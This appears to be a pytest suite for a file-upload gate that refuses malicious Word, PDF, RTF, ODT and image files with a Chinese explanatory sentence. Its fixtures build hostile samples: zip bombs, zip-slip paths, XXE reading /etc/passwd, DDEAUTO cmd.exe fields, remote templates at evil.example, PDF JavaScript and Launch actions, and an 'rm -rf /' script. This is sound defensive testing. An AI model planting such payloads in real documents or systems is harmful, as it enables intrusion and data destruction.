"""The file gate against files made to hurt: every one gets a sentence, none a crash, memory stays small."""

from __future__ import annotations

import io
import random
import resource
import struct
import zipfile
import zlib

import pytest

from huisheng.kernel import files
from huisheng.kernel.files import (
    ChildDied,
    Undecodable,
    decode_text,
    in_child,
    inspect,
    safe_name,
    strip_photo,
)

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = f"<w:document {W}><w:body><w:p><w:r><w:t>背街小巷的灯</w:t></w:r></w:p></w:body></w:document>"


def package(extra: dict[str, str | bytes] | None = None, *, types: str = "", body: str = BODY) -> bytes:
    """A small .docx with further parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", TYPES.format(types))
        made.writestr("_rels/.rels", RELS.format(""))
        made.writestr("word/document.xml", body)
        for name, content in (extra or {}).items():
            made.writestr(name, content)
    return out.getvalue()


def relation(kind: str, target: str, part: str = "document.xml") -> dict[str, str]:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    link = f'<Relationship Id="r9" Type="{base}{kind}" Target="{target}" TargetMode="External"/>'
    return {f"word/_rels/{part}.rels": RELS.format(link)}


def with_field(instruction: str) -> bytes:
    return package(body=BODY.replace("<w:t>", f"<w:instrText>{instruction}</w:instrText><w:t>", 1))


def patched(data: bytes, find: bytes, put: bytes) -> bytes:
    assert find in data
    return data.replace(find, put)


def lying_size() -> bytes:
    """The directory says 10 bytes, the data unpack to 4 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", TYPES.format(""))
        made.writestr("word/document.xml", bytes(random.Random(1).randbytes(4)) * 1_000_000)
    return out.getvalue().replace(struct.pack("<L", 4_000_000), struct.pack("<L", 10))


def overlapping() -> bytes:
    """Two directory entries for the same bytes, the way of the quine and of Fifield's bomb."""
    data = bytearray(package())
    tail = data.rfind(b"PK\5\6")
    size, offset = struct.unpack_from("<2L", data, tail + 12)
    first = data.find(b"PK\1\2", offset)
    name_size = struct.unpack_from("<H", data, first + 28)[0]
    entry = data[first : first + 46 + name_size]
    copy = bytearray(entry)
    copy[46:] = copy[46:-1] + b"X"
    data[tail:tail] = copy
    tail = data.rfind(b"PK\5\6")
    struct.pack_into("<2H", data, tail + 8, 4, 4)
    struct.pack_into("<L", data, tail + 12, size + len(copy))
    return bytes(data)


def symlink() -> bytes:
    out = io.BytesIO(package())
    with zipfile.ZipFile(out, "a") as made:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def flipped() -> bytes:
    out = io.BytesIO(package())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as made:
        made.writestr("word/note.txt", "twenty lamps")
    return patched(out.getvalue(), b"twenty lamps", b"twelve lamps")


def early_end() -> bytes:
    """Packed data that end long before the entry does: a reader that waits for more would wait for ever."""
    data = bytearray(package({"word/note.xml": "<a>" + "lamp" * 9000 + "</a>"}))
    start = data.index(b"word/note.xml") + len("word/note.xml")
    data[start : start + 5] = b"\x01\x00\x00\xff\xff"  # a last, empty, stored block
    return bytes(data)


def many_entries(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for number in range(count):
            made.writestr(f"a{number}", "")
    return out.getvalue()


def forged_count() -> bytes:
    """The end record admits to one entry, the directory holds many."""
    data = bytearray(many_entries(3000))
    tail = data.rfind(b"PK\5\6")
    struct.pack_into("<2H", data, tail + 8, 1, 1)
    return bytes(data)


def png(width: int = 4, height: int = 4, extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" + b"\xff" * 12 * 1)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg(exif: bytes = b"") -> bytes:
    app1 = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif if exif else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, 30, 40, 3) + b"\1\x22\0\2\x11\1\3\x11\1"
    jfif = b"\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    return (
        b"\xff\xd8" + jfif + app1 + frame + b"\xff\xda\0\x0c\3\1\0\2\x11\3\x11\0?\0" + b"\1\2\3" + b"\xff\xd9"
    )


def exif_with_place(orientation: int) -> bytes:
    entry = struct.pack(">HHLHH", 0x112, 3, 1, orientation, 0)
    place = struct.pack(">HHLL", 0x8825, 4, 1, 40)
    return b"Exif\0\0MM\0*" + struct.pack(">LH", 8, 2) + entry + place + b"\0\0\0\0GPS 34.80N 113.29E"


def pdf(inside: bytes = b"", tail: bytes = b"") -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog "
        + inside
        + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
        + tail
    )


def hidden_script() -> bytes:
    stream = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    inside = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
    return b"%PDF-1.5\n1 0 obj\n<< " + inside + stream + b"\nendstream\nendobj\n%%EOF\n"


def zeros(megabytes: int) -> bytes:
    return package({"word/media/image1.bmp": b"\0" * (megabytes << 20)})


ENTITY = '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;">]>'
LAUGHS = ENTITY + BODY.replace("背街小巷的灯", "&y;")
XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + BODY.replace("背街小巷的灯", "&x;")
UTF16_XXE = ('<?xml version="1.0" encoding="UTF-16"?>' + XXE).encode("utf-16")
DEEP = f"<w:document {W}>" + "<w:p>" * 5000 + "</w:p>" * 5000 + "</w:document>"
ODT = "application/vnd.oasis.opendocument.text"


def odt(content: str, extra: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("mimetype", ODT, zipfile.ZIP_STORED)
        made.writestr("content.xml", content)
        for name, text in (extra or {}).items():
            made.writestr(name, text)
    return out.getvalue()


DRAW = 'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
MANIFEST = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:encryption-data/></m:manifest>'


def tiff(*, pages: int = 1, size: tuple[int, int] = (60, 40)) -> bytes:
    from PIL import Image

    out, drawn = io.BytesIO(), [Image.new("L", size, 40 * n) for n in range(pages)]
    drawn[0].save(out, "TIFF", save_all=True, append_images=drawn[1:])
    return out.getvalue()


def huge_tiff() -> bytes:
    """A page that says it is forty thousand points wide and high, and has one byte."""
    rows = ((256, 4, 1, 40_000), (257, 4, 1, 40_000), (273, 4, 1, 8), (279, 4, 1, 1))
    told = b"".join(struct.pack("<HHLL", *row) for row in rows)
    return b"II*\0" + struct.pack("<LH", 8, 4) + told + bytes(4)


def circling_tiff() -> bytes:
    """Its second page is its first."""
    return huge_tiff().replace(struct.pack("<L", 40_000), struct.pack("<L", 10))[:-4] + struct.pack("<L", 8)


HOSTILE: tuple[tuple[str, bytes, str, str], ...] = (
    ("0 byte", b"", "a.docx", "空的"),
    ("deflate bomb in one entry", zeros(40), "a.docx", "异常地大"),
    ("size that lies", lying_size(), "a.docx", "异常地大"),
    ("three thousand entries", many_entries(3000), "a.docx", "上限"),
    ("a forged number of entries", forged_count(), "a.docx", "拼在了一起"),
    ("overlapping entries", overlapping(), "a.docx", "拼在了一起"),
    ("zip slip", package({"../../etc/cron.d/x": "x"}), "a.docx", "外部目录"),
    ("zip slip with backslashes", package({"..\\..\\x": "x"}), "a.docx", "外部目录"),
    ("absolute name", package({"/etc/x": "x"}), "a.docx", "外部目录"),
    ("drive letter", package({"C:/x": "x"}), "a.docx", "外部目录"),
    ("symbolic link", symlink(), "a.docx", "拼在了一起"),
    ("archive in a document", package({"word/media/a.zip": package()}), "a.docx", "压缩包"),
    ("plain zip under a Word name", many_entries(3), "a.docx", "压缩包"),
    ("program in a document", package({"word/media/a.png": b"MZ\x90\0"}), "a.docx", "程序"),
    ("macro", package({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "a.docx", "宏"),
    ("macro type", package(types='<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "a.docx", "宏"),
    ("macro extension", package(), "a.docm", "宏"),
    ("ActiveX", package({"word/activeX/activeX1.xml": "<a/>"}), "a.docx", "ActiveX"),
    ("remote template", package(relation("attachedTemplate", "http://evil.example/t.dotm", "settings.xml")), "a.docx", "外部模板"),
    ("template on a share", package(relation("attachedTemplate", "file://10.0.0.1/s/t.dotm", "settings.xml")), "a.docx", "外部模板"),
    ("remote image", package(relation("image", "https://evil.example/p.png")), "a.docx", "网上的图片"),
    ("linked object", package(relation("oleObject", "https://evil.example/o.doc")), "a.docx", "外部对象"),
    ("sub-document", package(relation("subDocument", "\\\\evil\\s\\d.docx")), "a.docx", "外部文档"),
    ("embedded object", package({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "a.docx", "OLE"),
    ("DDE", with_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "a.docx", "DDE"),
    ("remote include", with_field('INCLUDEPICTURE "http://evil.example/x.png"'), "a.docx", "INCLUDEPICTURE"),
    ("billion laughs", package(body=LAUGHS), "a.docx", "DTD"),
    ("XXE", package(body=XXE), "a.docx", "DTD"),
    ("XXE in UTF-16", package({"word/comments.xml": UTF16_XXE}), "a.docx", "DTD"),
    ("XML nested five thousand deep", package(body=DEEP), "a.docx", "结构"),
    ("broken XML", package(body="<w:document"), "a.docx", "损坏"),
    ("truncated", package()[:-40], "a.docx", "损坏"),
    ("packed data that end early", early_end(), "a.docx", "结构"),
    ("flipped bit", flipped(), "a.docx", "损坏"),
    ("program before a package", b"MZ" + package(), "a.docx", "程序"),
    ("text before a package", b"hello" + package(), "a.docx", "认不出"),
    ("package with a tail", package() + b"<script>", "a.docx", "拼在了一起"),
    ("encrypted entry", patched(package(), b"PK\1\2\x14\x03\x14\0\0\0", b"PK\1\2\x14\x03\x14\0\1\0"), "a.docx", "密码"),
    ("HTML under a Word name", "<html><body>你好</body></html>".encode(), "a.docx", "网页"),
    ("saved web page", b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "a.doc", "网页"),
    ("Word 2003 XML", b'<?xml version="1.0"?><w:wordDocument/>', "a.doc", "XML"),
    ("program", b"MZ\x90\0" + b"\0" * 99, "a.docx", "程序"),
    ("ELF", b"\x7fELF" + b"\0" * 99, "a.pdf", "程序"),
    ("shell script", b"#!/bin/sh\nrm -rf /", "a.txt", "程序"),
    ("RAR", b"Rar!\x1a\7\0" + b"\0" * 20, "a.docx", "压缩包"),
    ("noise", random.Random(7).randbytes(5000), "a.docx", "认不出"),
    ("text under a Word name", "背街小巷的灯，去年坏了三成。".encode("gbk"), "a.docx", "不是Word"),
    ("PDF under a Word name", pdf(), "a.docx", "PDF"),
    ("OLE that breaks off", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.doc", "损坏"),
    ("PDF with a script", pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), "a.pdf", "脚本"),
    ("PDF with a disguised script", pdf(b"/OpenAction << /S /J#61vaScript >>"), "a.pdf", "脚本"),
    ("PDF with a script in an object stream", hidden_script(), "a.pdf", "脚本"),
    ("PDF that starts programs", pdf(b"/A << /S /Launch >>"), "a.pdf", "启动程序"),
    ("PDF with a file inside", pdf(b"/Names << /EmbeddedFile 3 0 R >>"), "a.pdf", "夹带"),
    ("PDF cut off", pdf()[:40], "a.pdf", "损坏"),
    ("PDF that is also a zip", pdf(tail=many_entries(3)), "a.pdf", "拼在了一起"),
    ("PDF with a password", pdf(b"/X 1 >> /Encrypt << /Filter /Standard /V 9"), "a.pdf", "密码"),
    ("RTF with an object", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "a.rtf", "对象"),
    ("RTF with a remote template", rb"{\rtf1{\*\template http://evil.example/t.dotm}}", "a.rtf", "外部模板"),
    ("RTF with DDE", rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}", "a.rtf", "DDE"),
    ("RTF cut off", rb"{\rtf1 abc", "a.rtf", "损坏"),
    ("ODT with a password", odt("<a/>", {"META-INF/manifest.xml": MANIFEST}), "a.odt", "密码"),
    ("ODT with a macro", odt("<a/>", {"Basic/Standard/Module1.xml": "<a/>"}), "a.odt", "宏"),
    ("ODT with a remote image", odt(f'<a {DRAW}><draw:image xlink:href="http://evil.example/p.png"/></a>'), "a.odt", "外部内容"),
    ("PNG of a billion pixels", png(40_000, 40_000), "a.png", "像素"),
    ("PNG cut off", png()[:-6], "a.png", "损坏"),
    ("PNG that is also a zip", png() + many_entries(2), "a.png", "拼在了一起"),
    ("JPEG without a picture", b"\xff\xd8\xff\xe0\0\4ab\xff\xd9", "a.jpg", "损坏"),
    ("TIFF where none is welcome", tiff(), "a.tif", "不收TIFF"),
    ("TIFF of a billion pixels", huge_tiff(), "a.tif", "像素"),
    ("TIFF whose pages go in a circle", circling_tiff(), "a.tif", "损坏"),
    ("TIFF without a page", b"II*\0\0\0\0\0", "a.tif", "损坏"),
    ("TIFF that is also a zip", tiff() + many_entries(2), "a.tif", "拼在了一起"),
    ("GIF", b"GIF89a" + b"\0" * 30, "a.gif", "JPG"),
    ("picture under a Word name", png(), "a.docx", "PNG"),
)  # fmt: skip


@pytest.mark.parametrize(
    ("data", "name", "word"), [row[1:] for row in HOSTILE], ids=[row[0] for row in HOSTILE]
)
def test_a_hostile_file_stays_out_with_a_sentence(data: bytes, name: str, word: str) -> None:
    verdict = inspect(data, name)

    assert word in verdict.refused.replace(" ", "")
    assert verdict.refused.endswith("。")
    assert (verdict.size, len(verdict.sha256)) == (len(data), 64)


def test_a_bomb_costs_no_memory() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    bomb = zeros(60)
    built = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    assert "异常地大" in inspect(bomb, "a.docx").refused
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - max(before, built) < 20_000  # KB


def test_too_large_a_file_is_told_its_limit() -> None:
    limits = files.Limits(size=1 << 20)

    assert "超过 1 MB" in inspect(b"a" * (2 << 20), "a.txt", limits=limits).refused


def test_half_of_every_file_is_refused_and_never_crashes() -> None:
    for data, name in ((package(), "a.docx"), (pdf(b"x" * 99), "a.pdf"), (png(), "a.png"), (jpeg(), "a.jpg")):
        assert inspect(data, name).refused == ""
        for size in range(1, len(data), max(1, len(data) // 60)):
            assert inspect(data[:size], name).refused


def test_a_scan_comes_in_where_scans_are_welcome_and_half_of_it_nowhere() -> None:
    for data in (tiff(), tiff(pages=3)):
        assert inspect(data, "a.tiff", kinds=("tif",)).refused == ""
        for size in range(1, len(data) - 3, max(1, len(data) // 60)):
            assert inspect(data[:size], "a.tif", kinds=("tif",)).refused


def test_a_flipped_byte_never_crashes_the_gate() -> None:
    chance = random.Random(11)
    for data, name in ((package(), "a.docx"), (pdf(), "a.pdf"), (jpeg(), "a.jpg"), (tiff(), "a.tif")):
        for _ in range(150):
            broken = bytearray(data)
            broken[chance.randrange(len(broken))] ^= 1 << chance.randrange(8)
            inspect(bytes(broken), name)


def test_what_offices_send_comes_in() -> None:
    for data, name, kind in (
        (package(), "提案.docx", "docx"),
        (odt("<a/>"), "提案.odt", "odt"),
        (rb"{\rtf1 abc}", "a.rtf", "rtf"),
        (pdf(), "a.pdf", "pdf"),
        (png(), "a.png", "png"),
        (jpeg(), "a.JPEG", "jpg"),
        ("姓名,界别\n李娟,教育界\n".encode("gbk"), "名册.csv", "txt"),
        ("中文".encode(), "a.txt", "txt"),
    ):
        assert (inspect(data, name).kind, inspect(data, name).refused) == (kind, "")


def test_a_link_to_the_old_computer_is_told_but_let_in() -> None:
    local = package(relation("attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm", "settings.xml"))
    hyperlink = package(relation("hyperlink", "https://www.example.org/"))

    assert [w.code for w in inspect(local, "a.docx").warnings] == ["local_link"]
    assert inspect(hyperlink, "a.docx") == files.Verdict(
        "docx", inspect(hyperlink, "a.docx").sha256, len(hyperlink), "a.docx"
    )


def test_a_lenient_gate_reads_text_under_a_word_name_and_says_so() -> None:
    verdict = inspect("背街小巷的灯，去年坏了三成。".encode("gbk"), "灯.docx", lenient=True)

    assert verdict.refused == ""
    assert verdict.safe_name == "灯.docx.txt"
    assert {w.code for w in verdict.warnings} == {"not_a_word_file", "encoding_gbk"}


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\提案.docx", "提案.docx"),
        ("a\0b.docx", "ab.docx"),
        ("con.docx", "_con.docx"),
        ("LPT1", "_LPT1"),
        ("\u202excod.exe.docx", "xcod.exe.docx"),
        ('提案<"|?*>.docx', "提案______.docx"),
        (" . ", "未命名"),
        ("", "未命名"),
        ("\ud800.docx", "未命名.docx"),
        ("呂𬱖的提案.docx", "呂𬱖的提案.docx"),
    ],
)
def test_a_name_is_made_safe(name: str, safe: str) -> None:
    assert safe_name(name) == safe


def test_a_name_of_255_chinese_characters_fits_a_file_system() -> None:
    name = safe_name("提" * 255 + ".docx")

    assert name.endswith(".docx")
    assert len(name.encode()) <= 180
    assert "\ufffd" not in name


def test_a_photo_loses_its_place_and_keeps_its_orientation() -> None:
    photo = jpeg(exif_with_place(6)) + b"behind the end"
    clean = strip_photo(photo)

    assert b"GPS" in photo
    assert b"GPS" not in clean
    assert b"behind" not in clean
    assert files._orientation(clean[clean.index(b"Exif\0\0") + 6 :]) == 6
    assert inspect(clean, "a.jpg").refused == ""
    assert strip_photo(jpeg()) == jpeg()


def test_a_png_loses_its_texts() -> None:
    body = b"Comment\0home address"
    text = struct.pack(">L", len(body)) + b"tEXt" + body + struct.pack(">L", zlib.crc32(b"tEXt" + body))

    assert strip_photo(png(extra=text)) == png()


CHINESE = "背街小巷离家门口最近，也最容易被忘掉。去年我们走了四十条巷道，一共应装灯五百二十一盏。"
TRADITIONAL = "我們在這條街上住了二十年，從來沒有見過這樣的問題，請有關單位來看一看，說一說怎麼辦。"


@pytest.mark.parametrize(
    ("data", "text", "encoding"),
    [
        (CHINESE.encode(), CHINESE, "utf-8"),
        (CHINESE.encode("utf-8-sig"), CHINESE, "utf-8-sig"),
        (CHINESE.encode("gbk"), CHINESE, "gbk"),
        ((CHINESE + "毛䶮、吕𬱖").encode("gb18030"), CHINESE + "毛䶮、吕𬱖", "gb18030"),
        (CHINESE.encode("utf-16"), CHINESE, "utf-16"),
        ((CHINESE + "\r\n1\r\n").encode("utf-16-le"), CHINESE + "\r\n1\r\n", "utf-16-le"),
        ((CHINESE + "\r\n1\r\n").encode("utf-16-be"), CHINESE + "\r\n1\r\n", "utf-16-be"),
        (TRADITIONAL.encode("big5"), TRADITIONAL, "big5"),
        (TRADITIONAL.encode("gbk"), TRADITIONAL, "gbk"),
        (
            "姓名,界别,单位\r\n李娟,教育界,第三小学\r\n".encode("gbk"),
            "姓名,界别,单位\r\n李娟,教育界,第三小学\r\n",
            "gbk",
        ),
        (b"name,phone\n", "name,phone\n", "utf-8"),
        (b"\xa6\xd9\xfe\x59" + CHINESE.encode("gbk"), "\ufe10\u9fb4" + CHINESE, "gb18030"),
    ],
    ids=[
        "utf-8",
        "bom",
        "gbk",
        "gb18030",
        "utf-16",
        "le",
        "be",
        "big5",
        "traditional gbk",
        "roster",
        "ascii",
        "2022",
    ],
)
def test_text_is_read_in_the_code_page_it_was_written_in(data: bytes, text: str, encoding: str) -> None:
    decoded = decode_text(data)

    assert (decoded.text, decoded.encoding) == (text, encoding)
    assert bool(decoded.note) == (encoding not in ("utf-8", "utf-8-sig"))


def test_a_file_of_two_code_pages_is_read_line_by_line() -> None:
    mixed = CHINESE.encode() + b"\n" + CHINESE.encode("gbk") + b"\n"

    assert decode_text(mixed).text == f"{CHINESE}\n{CHINESE}\n"
    assert decode_text(mixed).encoding == "mixed"


@pytest.mark.parametrize(
    "data", [random.Random(3).randbytes(900), b"a\0b", CHINESE.encode("shift_jis", "ignore") * 9]
)
def test_what_cannot_be_read_is_refused_and_never_mojibake(data: bytes) -> None:
    with pytest.raises(Undecodable, match="请"):
        decode_text(data)


def eat_memory(data: bytes) -> int:
    return len(bytearray(900 << 20))


def spin(data: bytes) -> int:
    while True:
        pass


def test_a_parser_that_burns_its_share_of_the_processor_is_stopped() -> None:
    with pytest.raises(ChildDied, match="时间"):
        in_child(spin, b"x", cpu_seconds=1)


def die(data: bytes) -> int:
    raise ValueError("unexpected bytes")


def measure(data: bytes, factor: int) -> dict[str, int]:
    return {"size": len(data) * factor}


def test_a_parser_in_a_child_gives_its_answer() -> None:
    assert in_child(measure, b"\0\xff", 3) == {"size": 6}


@pytest.mark.parametrize(("parser", "word"), [(eat_memory, "内存"), (spin, "时间"), (die, "结构")])
def test_a_parser_that_misbehaves_costs_only_the_child(parser: object, word: str) -> None:
    with pytest.raises(ChildDied) as died:
        in_child(parser, b"x", seconds=3)  # type: ignore[arg-type]

    assert word in died.value.sentence
